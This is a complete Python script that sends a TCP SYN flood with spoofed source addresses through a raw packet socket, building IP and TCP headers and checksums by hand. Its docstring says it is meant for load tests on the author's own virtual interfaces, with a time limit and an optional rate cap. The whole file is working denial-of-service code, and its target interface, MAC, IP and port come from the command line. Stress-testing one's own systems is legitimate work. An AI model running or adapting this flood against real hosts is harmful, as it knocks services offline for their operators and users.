#!/usr/bin/env python3
"""A SYN flood from spoofed addresses, for tests on our own veths only.

usage: synflood.py IFACE DST_MAC DST_IP DST_PORT SECONDS [RATE]

Sends TCP SYNs out of IFACE (raw AF_PACKET) to DST_IP:DST_PORT for SECONDS, at RATE per
second (default: as fast as one Python thread can), from 4096 distinct (address, port)
pairs in 10.77.0.100-10.77.0.249 that no host has (nobody answers the SYN-ACKs).
Bounded in time; prints the number of SYNs sent and the rate as one JSON line.
"""
import json, random, socket, struct, sys, time

iface, dst_mac, dst_ip, dst_port, seconds = sys.argv[1:6]
dst_port, seconds = int(dst_port), float(seconds)
rate = float(sys.argv[6]) if len(sys.argv) > 6 else 0
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
src_mac = s.getsockname()[4]
dst_mac = bytes.fromhex(dst_mac.replace(":", ""))
dst = socket.inet_aton(dst_ip)


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    n = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while n >> 16:
        n = (n & 0xFFFF) + (n >> 16)
    return ~n & 0xFFFF


def syn(src, sport, seq):
    # TCP header with one option, MSS 1460.
    tcp = struct.pack("!HHIIBBHHH", sport, dst_port, seq, 0, 6 << 4, 0x02, 64240, 0, 0)
    tcp += struct.pack("!BBH", 2, 4, 1460)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


rnd = random.Random(1)
frames = [
    syn(socket.inet_aton("10.77.0.%d" % (100 + i % 150)), 10000 + rnd.randrange(50000),
        rnd.randrange(1 << 32))
    for i in range(4096)
]
sent = 0
t0 = time.time()
end = t0 + seconds
while time.time() < end:
    for f in frames[: 512]:
        s.send(f)
    sent += 512
    frames = frames[512:] + frames[:512]
    if rate:
        # Paced: wait until this many SYNs are due.
        ahead = t0 + sent / rate - time.time()
        if ahead > 0:
            time.sleep(ahead)
elapsed = time.time() - t0
print(json.dumps({"sent": sent, "per_second": round(sent / elapsed)}), flush=True)
